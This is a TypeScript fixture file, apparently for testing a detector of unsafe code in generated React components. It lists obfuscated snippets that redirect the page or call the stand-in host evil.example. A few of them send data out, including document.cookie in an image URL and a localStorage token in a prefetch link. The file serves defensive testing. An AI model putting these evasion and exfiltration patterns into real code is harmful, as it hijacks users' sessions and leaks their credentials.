// biome-ignore-all lint/suspicious/noTemplateCurlyInString: sources are quoted
import type { Dangerous } from "./case.ts";

const raw = String.raw;

/** What leaves the page: redirects and external requests. */
export const DISGUISED_C_NETWORK: readonly Dangerous[] = [
  // redirect
  [
    "redirect",
    raw`const w = window;
export const X = () => { w["loc" + "ation"]["hr" + "ef"] = "https://evil.example"; return null; };`,
  ],
  [
    "redirect",
    raw`const { location: here } = window;
export const X = () => <a onClick={() => here.assign("https://evil.example")}>x</a>;`,
  ],
  [
    "redirect",
    raw`export const X = () => { Object.assign(window.location, { href: "https://evil.example" }); return null; };`,
  ],
  [
    "redirect",
    raw`export const X = () => { Reflect.set(location, "href", "https://evil.example"); return null; };`,
  ],
  [
    "redirect",
    raw`const go = location.replace.bind(location);
export const X = () => <b onClick={() => go("https://evil.example")} />;`,
  ],
  [
    "redirect",
    raw`export const X = () => { const u = ["https:", "", "evil.example"].join("/"); document.defaultView.location = u; return null; };`,
  ],
  [
    "redirect",
    raw`const nav = (l: Location, u: string) => { l.href = u; };
export const X = () => { nav(window.location, "https://evil.example/a"); return null; };`,
  ],
  [
    "redirect",
    raw`export const X = () => { top?.location?.assign?.("https://evil.example"); return null; };`,
  ],
  [
    "redirect",
    raw`class Nav { #loc = document.location; leave(u) { this.#loc.replace(u); } }
export const X = () => <i onClick={() => new Nav().leave("http://evil.example")} />;`,
  ],
  [
    "redirect",
    raw`export const X = () => { Location.prototype.assign.call(location, "https://evil.example"); return null; };`,
  ],
  [
    "redirect",
    raw`const d = Object.getOwnPropertyDescriptor(location, "href");
export const X = () => { d.set.call(location, "https://evil.example"); return null; };`,
  ],
  [
    "redirect",
    raw`export const X = () => { [window.location.href] = ["https://evil.example"]; return null; };`,
  ],
  [
    "redirect",
    raw`export const X = () => { ({ u: location.href } = { u: "https://evil.example" }); return null; };`,
  ],
  [
    "redirect",
    raw`export const X = () => { for (window.location of ["https://evil.example"]) break; return null; };`,
  ],
  [
    "redirect",
    raw`const to = atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGU=");
export const X = () => { self.location.href = to; return null; };`,
  ],
  [
    "redirect",
    raw`export const X = () => { window.navigation.navigate(new URL("/x", "https://evil.example").href); return null; };`,
  ],
  [
    "redirect",
    raw`export const X = () => { const open = window.open; open("https://evil.example", "_to" + "p"); return null; };`,
  ],
  [
    "redirect",
    raw`const link = Object.assign(document.createElement("a"), { href: "https://evil.example", target: "_self" });
export const X = () => { link.click(); return null; };`,
  ],
  [
    "redirect",
    raw`export const X = () => { const a = document.createElement("a"); a.setAttribute("href", "//evil.example"); a.dispatchEvent(new MouseEvent("click")); return null; };`,
  ],
  [
    "redirect",
    raw`export const X = () => { const f = document.createElement("form"); f.action = "https://evil.example/p"; f.method = "post"; document.body.append(f); f.submit(); return null; };`,
  ],
  [
    "redirect",
    raw`export const X = () => React.createElement("meta", { "http-equiv": "Refresh", content: "0; url=https://evil.example" });`,
  ],
  [
    "redirect",
    raw`export const X = () => { window.location.protocol = "http:"; window.location.host = "evil.example"; return null; };`,
  ],
  [
    "redirect",
    raw`export const X = () => { setTimeout(location.assign.bind(location, "https://evil.example"), 10); return null; };`,
  ],
  [
    "redirect",
    raw`const urls = { out: { to: "https://evil.example" } };
const { out: { to: target = "/" } } = urls;
export const X = () => { globalThis["location"] = target; return null; };`,
  ],
  [
    "redirect",
    raw`export const X = () => { with_(window, (w) => w.location.replace("https://evil.example")); return null; };
function with_(x, f) { return f(x); }`,
  ],
  [
    "redirect",
    raw`export const X = ({ m }: { m?: "assign" | "replace" }) => { window.location[m ?? "assign"]("https://evil.example"); return null; };`,
  ],
  [
    "redirect",
    raw`const frames_ = frames; 
export const X = () => { frames_.parent.document.location = "https://evil.example"; return null; };`,
  ],
  [
    "redirect",
    `export const X = () => { document.documentElement.ownerDocument.location.href = \`\${"ht"}tps://evil.example\`; return null; };`,
  ],
  [
    "redirect",
    raw`export const X = () => <button onClick={(e) => { e.view.location.href = "https://evil.example"; }} />;`,
  ],
  [
    "redirect",
    raw`export const X = () => { const s = "moc.elpmaxe.live//:sptth"; window.location.href = Array.from(s).reverse().join(""); return null; };`,
  ],
  // external-request
  [
    "external-request",
    raw`const f = fetch;
export const X = () => { f("https://evil.example"); return null; };`,
  ],
  [
    "external-request",
    raw`export const X = () => { window["fet" + "ch"]("https://evil.example"); return null; };`,
  ],
  [
    "external-request",
    raw`const { fetch: load = null } = globalThis;
export const X = () => { load("https://evil.example/x"); return null; };`,
  ],
  [
    "external-request",
    raw`export const X = () => { const h = ["evil", "example"].join("."); fetch("ht" + "tps" + "://" + h); return null; };`,
  ],
  [
    "external-request",
    raw`const u = new URL("https://evil.example/a");
u.searchParams.set("q", "1");
export const X = () => { fetch(u); return null; };`,
  ],
  [
    "external-request",
    raw`export const X = () => { fetch.call(window, atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGU=")); return null; };`,
  ],
  [
    "external-request",
    raw`const send = navigator.sendBeacon.bind(navigator, "https://evil.example/b");
export const X = ({ d }) => { send(d); return null; };`,
  ],
  [
    "external-request",
    raw`const { sendBeacon } = Navigator.prototype;
export const X = ({ d }) => { sendBeacon.call(navigator, "https://evil.example/b", d); return null; };`,
  ],
  [
    "external-request",
    raw`const W = self["Web" + "Socket"];
export const X = () => { const s = new W("wss://evil.example"); s.send(1); return null; };`,
  ],
  [
    "external-request",
    raw`class Sock extends WebSocket { constructor() { super("wss://evil.example/s"); } }
export const X = () => { new Sock(); return null; };`,
  ],
  [
    "external-request",
    raw`const x = Reflect.construct(XMLHttpRequest, []);
export const X = () => { x["open"]("GET", "https://evil.example"); x.send(); return null; };`,
  ],
  [
    "external-request",
    raw`const { open, send } = XMLHttpRequest.prototype;
export const X = () => { const r = new XMLHttpRequest(); open.call(r, "GET", "//evil.example/x"); send.call(r); return null; };`,
  ],
  [
    "external-request",
    `const host = "evil.example";
export const load = () => import(/* @vite-ignore */ \`https://\${host}/m.js\`);`,
  ],
  ["external-request", raw`export const X = React.lazy(() => import(["https:/", "esm.sh", "p"].join("/")));`],
  [
    "external-request",
    raw`const make = (C, ...a) => new C(...a);
export const X = () => { make(EventSource, "https://evil.example/e"); return null; };`,
  ],
  [
    "external-request",
    `const cfg = { ...{ base: "https://evil.example" }, path: "/c" };
export const X = () => { fetch(\`\${cfg.base}\${cfg.path}\`); return null; };`,
  ],
  [
    "external-request",
    raw`const request = (path) => fetch(base() + path);
function base() { return "https://" + "evil.example"; }
export const X = () => { request("/a"); return null; };`,
  ],
  [
    "external-request",
    raw`export const X = () => { fetch("https://local.example".replace("local", "evil")); return null; };`,
  ],
  [
    "external-request",
    raw`export const X = () => { (0, globalThis.fetch)(decodeURIComponent("https%3A%2F%2Fevil.example")); return null; };`,
  ],
  [
    "external-request",
    raw`const urls = new Map(Object.entries({ a: "https://evil.example/a" }));
export const X = () => { fetch(urls.get("a")); return null; };`,
  ],
  [
    "external-request",
    raw`export const X = () => { new Image().src = "https://evil.example/i?c=" + document.cookie; return null; };`,
  ],
  [
    "external-request",
    raw`export const X = () => { const i = document.createElement("img"); i.setAttribute("src", "//evil.example/p.gif"); return null; };`,
  ],
  [
    "external-request",
    raw`const w = new Worker(URL.createObjectURL(new Blob(["importScripts('https://evil.example/w.js')"])));
export const X = () => { w.postMessage(1); return null; };`,
  ],
  [
    "external-request",
    raw`const get = async ([url, init]: [string, RequestInit?]) => await fetch(url, init);
export const X = () => { get(["https://evil.example"]); return null; };`,
  ],
  [
    "external-request",
    raw`export const X = () => { ["https://evil.example/1", "https://evil.example/2"].forEach((u) => fetch(u)); return null; };`,
  ],
  ["external-request", raw`export const X = () => { ["https://evil.example/1"].map(fetch); return null; };`],
  [
    "external-request",
    raw`export const X = () => { fetch("\x68\x74\x74\x70\x73://evil.example"); return null; };`,
  ],
  [
    "external-request",
    raw`const bytes = [104, 116, 116, 112, 115, 58, 47, 47, 101, 118, 105, 108, 46, 101, 120];
export const X = () => { fetch(bytes.map((b) => String.fromCharCode(b)).join("")); return null; };`,
  ],
  [
    "external-request",
    raw`export const X = () => { const r = new Request(Object.freeze({ u: "https://evil.example" }).u); fetch(r); return null; };`,
  ],
  [
    "external-request",
    raw`const l = document.createElement("link");
Object.assign(l, { rel: "prefetch", href: "https://evil.example/?t=" + localStorage.getItem("token") });
document.head.append(l);`,
  ],
];
